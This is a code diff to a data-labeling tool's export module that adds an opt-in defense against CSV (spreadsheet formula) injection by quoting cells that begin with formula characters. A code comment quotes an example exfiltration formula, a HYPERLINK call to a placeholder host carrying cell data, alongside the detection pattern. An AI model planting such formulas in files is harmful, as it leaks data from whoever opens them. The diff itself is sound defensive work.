@@ -80,16 +80,19 @@ def last_finished_round(p: Project) -> int | None:
     return done[-1] if done else None
 
 
-def export_labels(p: Project, fmt: str, *, machine: bool = False) -> Export:
+def export_labels(p: Project, fmt: str, *, machine: bool = False, spreadsheet_safe: bool = False) -> Export:
     """The project's labels as of the last finished round, in ``fmt`` (one of ``FORMATS``).
 
     Human labels (training and audit items), imported seed labels and, with ``machine``, a
     machine label for every other pool item: the auto-label where auto-labeling gave one, else
     the prediction of the latest model trained on these labels, with its probability as the
     confidence. Gold items are never exported: their answers are the team's own file.
+    ``spreadsheet_safe`` (csv only): see ``spreadsheet_text``.
     """
     if fmt not in FORMATS:
         raise CrowdloopError(f"--format {fmt!r}: expected one of {', '.join(FORMATS)}")
+    if spreadsheet_safe and fmt != "csv":
+        raise CrowdloopError(f"--spreadsheet-safe: for --format csv, which spreadsheets open; not for {fmt!r}")
     without_pool = None
     try:
         order = p.index_of
@@ -121,18 +124,21 @@ def export_labels(p: Project, fmt: str, *, machine: bool = False) -> Export:
     by_source: dict[str, int] = {}
     for row in ordered:
         by_source[row["source"]] = by_source.get(row["source"], 0) + 1
+    if spreadsheet_safe:
+        ordered = [{k: spreadsheet_text(v) for k, v in row.items()} for row in ordered]
     data = _encode(p, ordered, fmt)
     return Export(data, len(ordered), by_source, finished, without_pool)
 
 
-def write_export(p: Project, out: str | None, fmt: str, *, machine: bool = False) -> tuple[Export, str]:
+def write_export(p: Project, out: str | None, fmt: str, *, machine: bool = False,
+                 spreadsheet_safe: bool = False) -> tuple[Export, str]:
     """Export to ``out`` (a local path or a store URL such as ``s3://bucket/labels.csv``) in one
     atomic write: a reader sees the old file or the whole new one, never a part. Returns what was
     written and where (``export_target``)."""
     from crowdloop.storage import open_store, store_scheme
 
     target = export_target(p, out, fmt)
-    done = export_labels(p, fmt, machine=machine)
+    done = export_labels(p, fmt, machine=machine, spreadsheet_safe=spreadsheet_safe)
     if store_scheme(target) == "file":
         open_store(str(Path(target).parent)).write_bytes(Path(target).name, done.data)
     else:
@@ -171,6 +177,20 @@ def default_export_name(p: Project, fmt: str) -> str:
 
 
 # -- helpers -----------------------------------------------------------------------------------
+
+
+# A cell a spreadsheet reads as a formula (OWASP "CSV injection"): '=HYPERLINK("http://...?"&A2)' in a
+# pool's text, opened in Excel or LibreOffice, runs and can send the row elsewhere.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(value: Any) -> Any:
+    """A text cell that a spreadsheet would run as a formula, prefixed with ``'`` so it is shown as
+    the text it is; numbers and other text unchanged. Opt-in (``--spreadsheet-safe``): the prefix
+    is data to a program reading the file."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
 
 
 def _row(item: str, label: str, source: str, confidence: float, n: int) -> dict[str, Any]:
